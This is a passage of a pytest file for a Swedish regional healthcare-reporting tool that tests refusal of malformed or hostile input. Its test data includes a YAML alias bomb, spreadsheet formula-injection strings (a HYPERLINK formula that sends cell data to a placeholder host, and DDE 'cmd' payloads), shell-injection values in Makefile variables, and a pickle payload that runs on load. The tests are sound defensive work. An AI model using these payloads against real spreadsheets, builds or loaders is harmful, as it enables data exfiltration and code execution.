"""Bad input as a user would try it (issue 9): each fault found then has a test here.

Every case ends in one `fel:`-style line naming the file (and line or field), never a
traceback, a silently wrong report or a lost one. The numbers in the test names are the
faults' numbers in issue 9.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import time
from pathlib import Path

import pytest

from naravard.config.catalog import load_catalog
from naravard.core.errors import NaravardError
from naravard.sources.regional import read_regional_file
from naravard.report import exports

HEADER = "indicator_id;year;gender;value;source;note"
SRC = "Region Västerbottens redovisning till Socialstyrelsen 2024, fråga 35"
ROW = f"fast_lakarkontakt_andel;2024;T;46;{SRC};"
REPO = Path(__file__).resolve().parents[1]


@pytest.fixture(scope="module")
def catalog():
    return load_catalog()


def regional(tmp_path: Path, *rows: str, name: str = "vasterbotten.csv") -> Path:
    path = tmp_path / name
    path.write_text("\n".join([HEADER, *rows]) + "\n", encoding="utf-8")
    return path


def one_line_error(call, *args) -> str:
    with pytest.raises(NaravardError) as info:
        call(*args)
    message = str(info.value)
    assert "\n" not in message and len(message) < 600, message[:2000]
    return message


# --- 1. regional CSV parsed strictly -------------------------------------------------------

def test_1_a_stray_quote_does_not_swallow_the_rows_after_it(tmp_path, catalog):
    path = regional(tmp_path, f'fast_lakarkontakt_andel;2023;T;44;"{SRC};',
                    ROW, "fast_lakarkontakt_antal;2024;T;28100;x;")
    message = one_line_error(read_regional_file, path, catalog)
    assert "vasterbotten.csv rad 2" in message and "citattecken" in message


def test_1_a_quote_closed_rows_later_is_refused_too(tmp_path, catalog):
    path = regional(tmp_path, f'fast_lakarkontakt_andel;2023;T;44;"{SRC};',
                    ROW, 'fast_lakarkontakt_antal;2024;T;28100;x";')
    message = one_line_error(read_regional_file, path, catalog)
    assert "vasterbotten.csv rad 2" in message


def test_1_an_unquoted_semicolon_that_adds_a_field_is_refused(tmp_path, catalog):
    path = regional(tmp_path, ROW, f"fast_lakarkontakt_antal;2024;T;28100;{SRC};mätt; se bilaga")
    message = one_line_error(read_regional_file, path, catalog)
    assert "vasterbotten.csv rad 3" in message and "7 fält" in message


def test_1_a_row_with_too_few_fields_is_refused(tmp_path, catalog):
    path = regional(tmp_path, "fast_lakarkontakt_andel;2024;T;46")
    assert "rad 2" in one_line_error(read_regional_file, path, catalog)


def test_1_text_after_a_closing_quote_is_refused(tmp_path, catalog):
    path = regional(tmp_path, f'fast_lakarkontakt_andel;2024;T;46;"{SRC}" mer;')
    assert "rad 2" in one_line_error(read_regional_file, path, catalog)


def test_1_a_quoted_semicolon_is_fine(tmp_path, catalog):
    path = regional(tmp_path, f'fast_lakarkontakt_andel;2024;T;46;"{SRC}; tabell 3";')
    assert read_regional_file(path, catalog)["source"].tolist() == [f"{SRC}; tabell 3"]


def test_11_a_field_over_the_csv_size_limit_is_one_line(tmp_path, catalog):
    path = regional(tmp_path, 'fast_lakarkontakt_andel;2024;T;46;"' + "x" * 200_000)
    assert "vasterbotten.csv rad 2" in one_line_error(read_regional_file, path, catalog)


# --- 6. length limits on free text -----------------------------------------------------------

def test_6_a_ten_thousand_character_word_in_a_note_is_refused_at_once(tmp_path, catalog):
    path = regional(tmp_path, f"fast_lakarkontakt_andel;2024;T;46;{SRC};" + "x" * 10_000)
    started = time.perf_counter()
    message = one_line_error(read_regional_file, path, catalog)
    assert time.perf_counter() - started < 5
    assert "rad 2, kolumnen note" in message and "10000 tecken" in message


def test_6_a_word_too_long_to_break_quickly_is_refused(tmp_path, catalog):
    path = regional(tmp_path, f"fast_lakarkontakt_andel;2024;T;46;{SRC};Se " + "y" * 201)
    message = one_line_error(read_regional_file, path, catalog)
    assert "201 tecken utan mellanslag" in message


def test_6_a_long_source_is_refused(tmp_path, catalog):
    path = regional(tmp_path, "fast_lakarkontakt_andel;2024;T;46;" + "källa " * 100 + ";")
    assert "kolumnen source" in one_line_error(read_regional_file, path, catalog)


def test_6_a_long_answer_text_is_refused(tmp_path):
    from naravard.report.questionnaire import load_structure, validate_answers

    data = {"region": "vasterbotten", "year": 2024,
            "answers": {"35": {"answer": 18, "source": "y" * 10_000}}}
    message = one_line_error(validate_answers, data, load_structure(2024))
    assert "fråga 35" in message and "source" in message


def test_6_a_long_catalogue_text_is_refused(tmp_path):
    from naravard.core.paths import catalog_path

    text = catalog_path().read_text(encoding="utf-8")
    bad = tmp_path / "indicators.yaml"
    bad.write_text(text.replace("    name: ", "    name: " + "z" * 5000 + " ", 1), encoding="utf-8")
    message = one_line_error(load_catalog, bad)
    assert "fältet name" in message and "högst 1000" in message


def test_6_the_stylesheet_lets_long_words_break():
    from naravard.core.paths import TEMPLATES_DIR

    css = (TEMPLATES_DIR / "naravard" / "static" / "naravard.css").read_text(encoding="utf-8")
    assert "overflow-wrap: break-word" in css


def test_6_a_long_but_allowed_word_prints_quickly(tmp_path):
    import nbformat

    from naravard.build.render import html_to_pdf, notebook_to_html

    from naravard.core.limits import MAX_WORD, check_length

    word = ("Regionfullmäktigesbeslut" * 20)[:MAX_WORD]  # the longest word allowed
    check_length(f"Se {word}", "regional_note", "x")
    html = f"<p>{word}</p><table><tr><td>{word}</td></tr></table>"
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(outputs=[
        nbformat.v4.new_output("display_data", {"text/html": html})])])
    started = time.perf_counter()
    pages = html_to_pdf(notebook_to_html(nb, title="t"), tmp_path / "x.pdf")
    assert pages <= 2 and time.perf_counter() - started < 60


# --- 7 + 8. one safe YAML loader ------------------------------------------------------------

BOMB = "\n".join(["a: &a [x, x, x, x, x, x, x, x, x]"]
                 + [f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)}, *{chr(97 + i)}, "
                    f"*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}]"
                    for i in range(12)])


def test_7_an_alias_bomb_in_answers_is_refused_quickly(tmp_path):
    from naravard.report.questionnaire import check_file

    folder = tmp_path / "vasterbotten"
    folder.mkdir()
    path = folder / "2024.yaml"
    path.write_text("region: vasterbotten\nyear: 2024\nanswers:\n  \"5\":\n    answer: Ja\n"
                    "    comment: " + "&x hej\n" + "  \"6\":\n    answer: Ja\n    comment: *x\n"
                    + "# " + BOMB.replace("\n", "\n# ") + "\n", encoding="utf-8")
    message = one_line_error(check_file, path)
    assert "2024.yaml rad" in message and "alias" in message


@pytest.mark.parametrize("loader", ["catalog", "structure", "answers"])
def test_7_anchors_and_aliases_are_refused_everywhere(tmp_path, loader):
    from naravard.core import safe_yaml

    path = tmp_path / "x.yaml"
    path.write_text(BOMB + "\n", encoding="utf-8")
    started = time.perf_counter()
    message = one_line_error(safe_yaml.load_file, path)
    assert time.perf_counter() - started < 2
    assert "x.yaml rad 1" in message


def test_7_every_yaml_read_goes_through_the_safe_loader():
    """No module but safe_yaml parses YAML, so no reader can miss the checks."""
    import naravard

    root = Path(naravard.__file__).parent
    parse = re.compile(r"(?<![\w.])yaml\.(safe_|full_|unsafe_)?load")
    offenders = [p.name for p in root.rglob("*.py") if p.name != "safe_yaml.py"
                 and parse.search(p.read_text(encoding="utf-8"))]
    assert offenders == []


def test_8_a_duplicate_key_in_answers_is_refused(tmp_path):
    from naravard.report.questionnaire import read_answers

    folder = tmp_path / "vasterbotten"
    folder.mkdir()
    path = folder / "2024.yaml"
    path.write_text("region: vasterbotten\nyear: 2024\nanswers:\n  \"5\":\n    answer: Ja\n"
                    "  \"5\":\n    answer: Nej\n", encoding="utf-8")
    message = one_line_error(read_answers, path)
    assert "2024.yaml rad 6" in message and "två gånger" in message


def test_8_a_duplicate_key_in_the_questionnaire_structure_is_refused(tmp_path):
    from naravard.report.questionnaire.structure import read_yaml

    path = tmp_path / "2024.yaml"
    path.write_text("title: a\ntitle: b\n", encoding="utf-8")
    assert "rad 2" in one_line_error(read_yaml, path)


def test_7_an_error_quotes_only_a_short_excerpt(tmp_path):
    from naravard.report.questionnaire import load_structure, validate_answers

    data = {"region": "vasterbotten", "year": 2024, "answers": {"5": {"answer": "J" * 100_000}}}
    message = one_line_error(validate_answers, data, load_structure(2024))
    assert len(message) < 400


# --- 9. finite values and unit ranges ------------------------------------------------------------

@pytest.mark.parametrize("value", ["1e308", "Infinity", "inf", "NaN", "-3", "1e12"])
def test_9_absurd_regional_values_are_refused(tmp_path, catalog, value):
    path = regional(tmp_path, f"fast_lakarkontakt_antal;2024;T;{value};{SRC};")
    message = one_line_error(read_regional_file, path, catalog)
    assert "vasterbotten.csv rad 2" in message and "value" in message


def _kolada_page(value: str) -> str:
    return ('{"values": [{"kpi": "N79173", "municipality": "0001", "period": 2023, '
            '"values": [{"gender": "T", "status": "", "value": ' + value + '}]}]}')


@pytest.mark.parametrize("value", ["Infinity", "NaN", "-Infinity", "1e999"])
def test_9_non_finite_kolada_values_are_refused_with_the_file(tmp_path, value):
    from naravard.sources.kolada import read_kolada_dir

    (tmp_path / "data").mkdir()
    (tmp_path / "data" / "N79173.json").write_text(_kolada_page(value), encoding="utf-8")
    message = one_line_error(read_kolada_dir, tmp_path)
    assert "N79173.json" in message and "value" in message


def _tiny_snapshot(directory: Path, rows: list[tuple[str, str, int, float]]) -> Path:
    (directory / "data").mkdir(parents=True)
    by_kpi: dict[str, list] = {}
    for kpi, code, year, value in rows:
        by_kpi.setdefault(kpi, []).append(
            {"kpi": kpi, "municipality": code, "period": year,
             "values": [{"gender": "T", "status": "", "value": value}]})
    for kpi, values in by_kpi.items():
        (directory / "data" / f"{kpi}.json").write_text(json.dumps({"values": values}),
                                                      encoding="utf-8")
    return directory


@pytest.mark.parametrize(("kpi", "value"), [("N79173", 140.0), ("N79173", -2.0),
                                            ("U20462", -5.0), ("U20462", 1e300)])
def test_9_impossible_kolada_values_name_the_source_file(tmp_path, project_tmp, kpi, value):
    from naravard.sources.table import clear_memo, load_observations

    clear_memo()
    snap = _tiny_snapshot(tmp_path / "snap", [(kpi, "0001", 2023, value),
                                              (kpi, "0009", 2023, 10.0)])
    message = one_line_error(load_observations, snap)
    assert f"{kpi}.json" in message and "observationstabellen" not in message


# --- 3. formula injection ----------------------------------------------------------------------

EVIL = '=HYPERLINK("http://example.invalid/?x="&A1;"Klicka")'


@pytest.mark.parametrize(("cell", "safe"), [
    (EVIL, "'" + EVIL), ("+SUM(A1:A9)", "'+SUM(A1:A9)"), ("-2+3+cmd|' /C calc'!A0", None),
    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"),
    ("-3,2", "-3,2"), ("+4", "+4"), ("-0.5 %", "-0.5 %"), ("Ja", "Ja"), (12.5, 12.5), ("-", "'-"),
])
def test_3_text_cells_that_spreadsheets_run_get_a_quote(cell, safe):
    from naravard.core.export_safety import neutralise

    assert neutralise(cell) == (safe if safe is not None else "'" + cell)


@pytest.fixture(scope="module")
def evil_rep(snapshot_dir, tmp_path_factory):
    """Västerbotten 2024 with a catalogue name that is a formula."""
    import dataclasses

    from naravard.report import region as report
    from naravard.config.catalog import Catalog
    from naravard.sources.table import load_observations

    base = load_catalog()
    first = base.indicators[0]
    catalog = dataclasses.replace(base, indicators=(dataclasses.replace(first, name=EVIL),
                                                    *base.indicators[1:]))
    obs = load_observations(snapshot_dir, catalog=catalog)
    assert isinstance(catalog, Catalog)
    return report.prepare("Västerbotten", 2024, obs=obs, catalog=catalog, figures=None)


def _xlsx_cells(data: bytes) -> list:
    import io

    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(data))
    return [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]


def test_3_a_catalogue_name_reaches_csv_and_xlsx_as_text(evil_rep):

    csv_text = exports.region_csv_bytes(evil_rep).decode("utf-8-sig")
    assert f"'{EVIL}" in csv_text.replace('""', '"')
    assert not any(line.split(";")[1].startswith("=") for line in csv_text.splitlines()[1:])
    cells = _xlsx_cells(exports.region_xlsx_bytes(evil_rep))
    assert "'" + EVIL in [c.value for c in cells]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []


def test_3_the_national_workbook_is_neutralised(evil_rep):
    from naravard.report import national

    nat = national.prepare(2024, obs=evil_rep.obs, catalog=evil_rep.catalog, figures=None)
    cells = _xlsx_cells(exports.national_xlsx_bytes(nat))
    assert "'" + EVIL in [c.value for c in cells]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []


def test_3_columns_added_later_are_covered_by_the_writers(evil_rep, monkeypatch):
    """A regional note and a questionnaire answer, in columns the writers do not know."""

    original = exports.region_frame

    def with_more(rep):
        frame = original(rep)
        frame["Anmärkning"] = "-1+1 @ regionens not"
        frame["Svar"] = "@SUM(1+1)*cmd|' /C calc'!A0"
        return frame

    monkeypatch.setattr(exports, "region_frame", with_more)
    csv_text = exports.region_csv_bytes(evil_rep).decode("utf-8-sig")
    assert ";'-1+1 @ regionens not;'@SUM" in csv_text
    values = [c.value for c in _xlsx_cells(exports.region_xlsx_bytes(evil_rep))]
    assert "'-1+1 @ regionens not" in values and "-1+1 @ regionens not" not in values


def test_3_negative_numbers_stay_numbers_in_the_csv(evil_rep):

    csv_text = exports.region_csv_bytes(evil_rep).decode("utf-8-sig")
    assert ";'-" not in csv_text  # no number got a quote
    assert re.search(r";-\d", csv_text)


# --- 14. SOURCE_DATE_EPOCH in the workbooks -----------------------------------------------------

def test_14_xlsx_is_identical_under_source_date_epoch(evil_rep, monkeypatch):

    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1735689600")
    first = exports.region_xlsx_bytes(evil_rep)
    time.sleep(2.1)  # the zip format's clock ticks in 2 s steps
    assert exports.region_xlsx_bytes(evil_rep) == first
    import io
    import zipfile

    core = zipfile.ZipFile(io.BytesIO(first)).read("docProps/core.xml").decode()
    assert core.count("2025-01-01T00:00:00Z") == 2


# --- 4. the Makefile passes variables as data ---------------------------------------------------

def _make(root: Path, *args: str) -> subprocess.CompletedProcess:
    from test_cli_errors import _skip_unless_make_is_ready

    _skip_unless_make_is_ready()
    env = dict(os.environ, NARAVARD_ROOT=str(root))
    return subprocess.run(["make", "--no-print-directory", *args], cwd=REPO, env=env,
                          capture_output=True, text=True, timeout=300)


@pytest.mark.parametrize(("target", "template"), [
    ("report", ['REGION=x"; touch {m}; echo "', "YEAR=2024"]),
    ("report", ["REGION=Gotland", "YEAR=`touch {m}`2024"]),
    ("report", ["REGION=$(touch {m})", "YEAR=2024"]),
    ("report", ["REGION=Gotland", "YEAR=2024", "DATA=$(shell touch {m})"]),
    ("report", ["REGION=Gotland", "YEAR=2024", "DATA=x'; touch {m}; echo '"]),
    ("reports", ["YEAR=2024; touch {m}", "DATA=/finns-inte"]),
    ("reports", ["YEAR=2024", "JOBS=1 `touch {m}`"]),
    ("reports", ["YEAR=2024", "DATA=/finns-inte", "FORCE=1; touch {m}"]),
    ("data", ["DATA=`touch {m}`"]),
])
def test_4_make_variables_never_run_as_commands(project_tmp, tmp_path, target, template):
    marker = tmp_path / "injected"
    proc = _make(project_tmp, target, *[t.format(m=marker) for t in template])
    assert not marker.exists(), f"make {target} ran a command from a variable"
    assert proc.returncode != 0
    own = [line for line in proc.stderr.splitlines()
           if line.startswith("fel:") or "naravard" in line and "error" in line]
    assert own, proc.stderr  # the program's own refusal, not the shell's
    assert "Traceback" not in proc.stderr


# --- 10. no pickle from a path the user gives ---------------------------------------------------

class _Payload:
    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self):
        return (open, (self.marker, "w"))


def test_10_data_pkl_is_never_unpickled(project_tmp, tmp_path, capsys):
    import pickle

    from naravard.cli import main

    marker = tmp_path / "ran"
    evil = tmp_path / "x.pkl"
    evil.write_bytes(pickle.dumps(_Payload(str(marker))))
    code = main(["report", "--region", "Gotland", "--year", "2024", "--data", str(evil)])
    err = capsys.readouterr().err
    assert not marker.exists(), "the pickle's payload ran"
    assert code == 2 and err.startswith("fel: ") and "x.pkl" in err and "Traceback" not in err


def test_10_a_copied_signature_does_not_pass_for_another_payload(tmp_path, snapshot_dir,
                                                                 monkeypatch):
    import pickle

    from naravard.sources.table import (load_observations, load_saved_observations,
                                save_observations)

    own = save_observations(load_observations(snapshot_dir), tmp_path / "own.pkl")
    assert len(load_saved_observations(own).frame) > 1000  # this run's own file loads
    head = own.read_bytes().split(b"\n", 2)
    marker = tmp_path / "ran"
    forged = tmp_path / "forged.pkl"
    forged.write_bytes(head[0] + b"\n" + head[1] + b"\n" + pickle.dumps(_Payload(str(marker))))
    with pytest.raises(NaravardError):
        load_saved_observations(forged)
    monkeypatch.setenv("NARAVARD_OBSERVATIONS_KEY", "another run")
    with pytest.raises(NaravardError):
        load_saved_observations(own)  # another run's file (its key is gone with it)
    assert not marker.exists()


# --- 2. example data never replaces a real report ----------------------------------------------

@pytest.fixture(scope="module")
def example_rep():
    from naravard.report import region as report
    from naravard.sources.table import _example_observations, validate

    catalog = load_catalog()
    obs = _example_observations(catalog)
    obs.frame = validate(obs.frame, catalog)
    return report.prepare("Västerbotten", 2024, obs=obs, catalog=catalog, figures=None)


def test_2_an_example_data_report_goes_under_exempeldata(project_tmp, example_rep, evil_rep):
    from naravard.report import national
    from naravard.build import pipeline
    from naravard.core.paths import figures_dir, output_dir

    job = pipeline.region_job(example_rep, None)
    assert job.out_dir == output_dir() / "exempeldata" / "vasterbotten" / "2024"
    assert job.figures == figures_dir() / "exempeldata" / "vasterbotten" / "2024"
    nat = national.prepare(2024, obs=example_rep.obs, catalog=example_rep.catalog, figures=None)
    assert pipeline.national_job(nat, None).out_dir == output_dir() / "exempeldata" / "riket" / "2024"
    real = pipeline.region_job(evil_rep, "snapshot")
    assert real.out_dir == output_dir() / "vasterbotten" / "2024"


def test_2_a_real_report_stays_untouched_and_current(project_tmp, example_rep, evil_rep,
                                                     monkeypatch):
    """The real report and its manifest are neither replaced nor made stale for `make reports`."""
    from naravard.build import batch, pipeline

    real = _fake_report(pipeline.region_job(evil_rep, "snapshot"))
    before = _tree(project_tmp)
    assert batch.up_to_date(real)

    example = pipeline.region_job(example_rep, None)
    monkeypatch.setattr("naravard.build.render.execute_notebook", _fake_execute)
    pipeline.run_job(example, Path("unused.pkl"))
    assert (example.out_dir / "rapport.pdf").is_file()
    after = _tree(project_tmp)
    assert {k: v for k, v in after.items() if "exempeldata" not in k} == before
    assert batch.up_to_date(real)


def _tree(root: Path) -> dict[str, bytes]:
    return {p.relative_to(root).as_posix(): p.read_bytes()
            for p in sorted(root.rglob("*")) if p.is_file()}


def _fake_execute(notebook, parameters, output_path, **_):
    """A stand-in for papermill: a notebook with one HTML output and one chart file."""
    import nbformat

    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(outputs=[
        nbformat.v4.new_output("display_data", {"text/html": "<p>Rapport</p>"})])])
    Path(output_path).parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, str(output_path))
    figures = Path(parameters["figures_dir"])
    (figures / "diagram.svg").write_text("<svg/>", encoding="utf-8")
    return nb


def _fake_report(job):
    """Render `job` with the stand-in notebook runner (no kernel), as run_job publishes it."""
    from naravard.build import pipeline

    with pytest.MonkeyPatch.context() as mp:
        mp.setattr("naravard.build.render.execute_notebook", _fake_execute)
        pipeline.run_job(job, Path("unused.pkl"))
    return job


# --- 5. a report is published as one unit -------------------------------------------------------

@pytest.mark.parametrize("name", ["rapport.pdf", "manifest.json", "indikatorer.csv",
                                  "bildspel.pptx", "rapport.docx"])
def test_5_a_folder_where_a_report_file_goes_is_refused_before_any_work(project_tmp, evil_rep,
                                                                        monkeypatch, name):
    from naravard.build import pipeline

    job = _fake_report(pipeline.region_job(evil_rep, "snapshot"))
    (job.out_dir / name).unlink()
    (job.out_dir / name).mkdir()
    before = _tree(project_tmp)
    monkeypatch.setattr("naravard.build.render.execute_notebook",
                        lambda *a, **k: pytest.fail("rendered despite a blocked destination"))
    message = one_line_error(pipeline.run_job, job, Path("unused.pkl"))
    assert f"2024/{name} är en mapp" in message
    assert _tree(project_tmp) == before
    assert not [p for p in job.out_dir.parent.iterdir() if p.name.startswith(".")]


def test_5_a_full_disk_while_rendering_names_the_report_folder(project_tmp, evil_rep,
                                                               monkeypatch):
    """papermill writes the notebook with a bare `open`: ENOSPC came without a path, and the
    line read "fel: No space left on device; …" (issue 19, weak points)."""
    import errno

    from naravard.build import pipeline

    def full(*args, **kwargs):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr("naravard.build.render.execute_notebook", full)
    job = pipeline.region_job(evil_rep, "snapshot")
    with pytest.raises(OSError) as info:
        pipeline.run_job(job, Path("unused.pkl"))
    assert info.value.filename and str(info.value.filename).endswith("vasterbotten/2024")
    assert not job.out_dir.exists()

def test_5_figures_being_a_file_is_one_line(project_tmp, evil_rep, monkeypatch):
    from naravard.build import pipeline

    job = pipeline.region_job(evil_rep, "snapshot")
    (project_tmp / "figures").rmdir()
    (project_tmp / "figures").write_text("inte en mapp", encoding="utf-8")
    monkeypatch.setattr("naravard.build.render.execute_notebook",
                        lambda *a, **k: pytest.fail("rendered despite a blocked destination"))
    message = one_line_error(pipeline.run_job, job, Path("unused.pkl"))
    assert "figures är en fil" in message


def test_5_a_failure_while_swapping_leaves_the_old_report_and_figures(project_tmp, evil_rep,
                                                                     monkeypatch):
    from naravard.build import pipeline

    job = _fake_report(pipeline.region_job(evil_rep, "snapshot"))
    before = _tree(project_tmp)
    real_rename = os.rename

    def failing_rename(src, dst):
        if ".staging-" in str(src) and Path(dst) == job.figures:
            raise OSError(28, "No space left on device", str(dst))
        real_rename(src, dst)

    monkeypatch.setattr(os, "rename", failing_rename)
    monkeypatch.setattr("naravard.build.render.execute_notebook", _fake_execute)
    message = one_line_error(pipeline.run_job, job, Path("unused.pkl"))
    assert "den förra är kvar" in message
    assert _tree(project_tmp) == before
    leftovers = [p for base in (job.out_dir.parent, job.figures.parent)
                 for p in base.iterdir() if p.name.startswith(".")]
    assert leftovers == []


def test_5_files_the_user_put_in_the_report_folder_stay(project_tmp, evil_rep):
    from naravard.build import pipeline

    job = _fake_report(pipeline.region_job(evil_rep, "snapshot"))
    (job.out_dir / "min-anteckning.txt").write_text("behåll", encoding="utf-8")
    (job.figures / "gammalt-diagram.svg").write_text("<svg/>", encoding="utf-8")
    _fake_report(job)
    assert (job.out_dir / "min-anteckning.txt").read_text(encoding="utf-8") == "behåll"
    assert not (job.figures / "gammalt-diagram.svg").exists()  # figures are all generated


# --- 12. skipping trusts the outputs' hashes ------------------------------------------------------

@pytest.mark.parametrize("damage", ["indikatorer.csv", "indikatorer.xlsx", "rapport.ipynb",
                                    "bildspel.pptx", "rapport.docx",
                                    "figures/diagram.svg", "edit:rapport.pdf", "edit:figures"])
def test_12_a_missing_or_changed_output_is_rendered_again(project_tmp, evil_rep, damage):
    from naravard.build import batch, pipeline

    job = _fake_report(pipeline.region_job(evil_rep, "snapshot"))
    assert batch.up_to_date(job)
    if damage == "edit:rapport.pdf":
        (job.out_dir / "rapport.pdf").write_bytes(b"%PDF annan")
    elif damage == "edit:figures":
        (job.figures / "diagram.svg").write_text("<svg>annat</svg>", encoding="utf-8")
    elif damage.startswith("figures/"):
        (job.figures / damage.removeprefix("figures/")).unlink()
    else:
        (job.out_dir / damage).unlink()
    assert not batch.up_to_date(job)


def test_12_the_manifest_lists_every_output_with_its_hash(project_tmp, evil_rep):
    from naravard.build import pipeline
    from naravard.build.manifest import sha256_file

    job = _fake_report(pipeline.region_job(evil_rep, "snapshot"))
    outputs = json.loads((job.out_dir / "manifest.json").read_text(encoding="utf-8"))["outputs"]
    assert set(outputs) == {"indikatorer.csv", "indikatorer.xlsx", "rapport.html",
                            "rapport.ipynb", "rapport.pdf", "figures/diagram.svg",
                            "bildspel.pptx", "rapport.docx",
                            "kommuner.csv"}  # Västerbotten has Kommunerna i länet
    assert outputs["rapport.pdf"] == sha256_file(job.out_dir / "rapport.pdf")


# --- 13. leftovers of killed runs are removed -------------------------------------------------

def test_13_staging_folders_of_dead_processes_are_removed(project_tmp, evil_rep):
    from naravard.build import pipeline

    proc = subprocess.Popen(["true"])
    proc.wait()
    job = pipeline.region_job(evil_rep, "snapshot")
    stale = [job.out_dir.parent / f".2024.staging-{proc.pid}-abc",
             job.figures.parent / f".2024.trash-{proc.pid}-abc"]
    live = job.out_dir.parent / f".2024.staging-{os.getppid()}-abc"
    for folder in [*stale, live]:
        folder.mkdir(parents=True)
        (folder / "rapport.pdf").write_bytes(b"halv")
    _fake_report(job)
    assert [p.exists() for p in stale] == [False, False]
    assert live.exists()  # a running process's staging folder is left alone


def test_13_staging_folders_of_older_naravard_versions_are_removed_when_a_day_old(tmp_path):
    """Before staging folders carried the process id they were named `.2024-<random>`: a
    later run removes those that are a day old (no run takes that long), not newer ones."""
    from naravard.core import publish

    old, recent = tmp_path / ".2024-k3j_x9q2", tmp_path / ".2024-ab12cd34"
    kept = [tmp_path / ".2024-notes", tmp_path / "2024", tmp_path / ".2024-k3j_x9q2x"]
    for folder in [old, recent, *kept]:
        folder.mkdir()
        (folder / "rapport.pdf").write_bytes(b"halv")
    day_ago = time.time() - 25 * 3600
    for folder in [old, *kept]:
        os.utime(folder, (day_ago, day_ago))
    assert publish.remove_stale(tmp_path) == [old]
    assert not old.exists() and recent.exists() and all(p.exists() for p in kept)


# --- modes: outputs readable by colleagues -------------------------------------------------------

@pytest.mark.parametrize(("umask", "folder", "file"), [(0o022, 0o755, 0o644),
                                                       (0o027, 0o750, 0o640)])
def test_outputs_are_readable_as_the_umask_allows(project_tmp, evil_rep, umask, folder, file):
    from naravard.build import pipeline
    from naravard.core import publish

    old = os.umask(umask)
    publish._umask.cache_clear()
    try:
        job = _fake_report(pipeline.region_job(evil_rep, "snapshot"))
    finally:
        os.umask(old)
        publish._umask.cache_clear()
    for path in (job.out_dir, job.figures):
        assert path.stat().st_mode & 0o777 == folder, path
    for path in [*job.out_dir.iterdir(), *job.figures.iterdir()]:
        assert path.stat().st_mode & 0o777 == file, path


def test_14_the_manifest_honours_source_date_epoch(project_tmp, evil_rep, monkeypatch):
    from naravard.build import pipeline

    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1735689600")
    job = _fake_report(pipeline.region_job(evil_rep, "snapshot"))
    manifest = json.loads((job.out_dir / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["created"] == "2025-01-01T00:00:00+00:00"


# --- 11. one line instead of a traceback -----------------------------------------------------------

def _cli(capsys, *args: str) -> tuple[int, str]:
    from naravard.cli import main

    try:
        code = main(list(args))
    except SystemExit as exc:  # argparse's own usage errors
        code = exc.code
    err = capsys.readouterr().err
    assert "Traceback" not in err
    return code, err


def test_11_jobs_below_one_is_a_usage_error(capsys):
    code, err = _cli(capsys, "reports", "--year", "2024", "--jobs", "-1")
    assert code == 2 and "--jobs" in err and "1 eller fler" in err


def test_11_a_year_of_ten_to_the_thirty_in_kolada_is_a_broken_file(tmp_path, project_tmp, capsys):
    (tmp_path / "data").mkdir()
    (tmp_path / "data" / "N79173.json").write_text(
        _kolada_page("50").replace('"period": 2023', '"period": ' + "1" + "0" * 30),
        encoding="utf-8")
    code, err = _cli(capsys, "report", "--region", "Gotland", "--year", "2024",
                     "--data", str(tmp_path))
    assert code == 2 and "N79173.json" in err and "period" in err and len(err.splitlines()) == 1


def test_11_json_nested_a_hundred_thousand_deep_is_one_line(tmp_path, project_tmp, capsys):
    (tmp_path / "data").mkdir()
    (tmp_path / "data" / "N79173.json").write_text("[" * 100_000 + "]" * 100_000,
                                                   encoding="utf-8")
    code, err = _cli(capsys, "report", "--region", "Gotland", "--year", "2024",
                     "--data", str(tmp_path))
    assert code == 2 and "N79173.json" in err and len(err.splitlines()) == 1


def test_11_questionnaire_template_into_a_folder_is_one_line(tmp_path, capsys):
    code, err = _cli(capsys, "questionnaire", "template", "--region", "Gotland", "--year", "2024",
                     "--out", str(tmp_path), "--force")
    assert code == 2 and "är en mapp" in err and len(err.splitlines()) == 1
    assert list(tmp_path.iterdir()) == []


def test_11_a_read_only_output_folder_is_one_line(project_tmp, evil_rep, monkeypatch):
    from naravard.build import pipeline
    from naravard.core import publish

    def refuse(*args, **kwargs):
        raise PermissionError(13, "Permission denied", str(project_tmp / "output"))

    monkeypatch.setattr(publish.tempfile, "mkdtemp", refuse)
    job = pipeline.region_job(evil_rep, "snapshot")
    message = one_line_error(pipeline.run_job, job, Path("unused.pkl"))
    assert "skrivskyddad" in message


def test_11_any_other_disk_error_is_one_line_naming_the_file(capsys, monkeypatch):
    from naravard.build import pipeline

    def full(*args, **kwargs):
        raise OSError(28, "No space left on device", "/data/output/gotland/2024")

    monkeypatch.setattr(pipeline, "build_region_report", full)
    code, err = _cli(capsys, "report", "--region", "Gotland", "--year", "2024")
    assert code == 2 and err.splitlines() == [
        "fel: /data/output/gotland/2024: No space left on device; kontrollera rättigheter och "
        "ledigt utrymme"]


# --- 11 + 13. Ctrl-C and SIGTERM: one line, nothing left behind ---------------------------------

def _first_chart_drawn(root: Path) -> bool:
    """The kernel is running the notebook: a chart is in a staging folder of figures/."""
    return any(".staging-" in str(p) for p in root.glob("figures/*/.*/*.png"))


def _interrupt(root: Path, args: list[str], sig: int, when: float | str,
               group: bool = False) -> tuple[int, str]:
    """Run naravard, send `sig` after `when` seconds or, for "chart", as soon as the notebook
    has drawn its first chart; return the exit code and stderr."""
    for sub in ("output", "figures"):
        (root / sub).mkdir(exist_ok=True)
    env = dict(os.environ, NARAVARD_ROOT=str(root), PYTHONUNBUFFERED="1")
    proc = subprocess.Popen([sys.executable, "-m", "naravard.cli", *args], env=env,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                            start_new_session=True)
    if when == "chart":
        deadline = time.monotonic() + 120
        while not _first_chart_drawn(root) and proc.poll() is None:
            assert time.monotonic() < deadline, "no chart was drawn within 120 s"
            time.sleep(0.05)
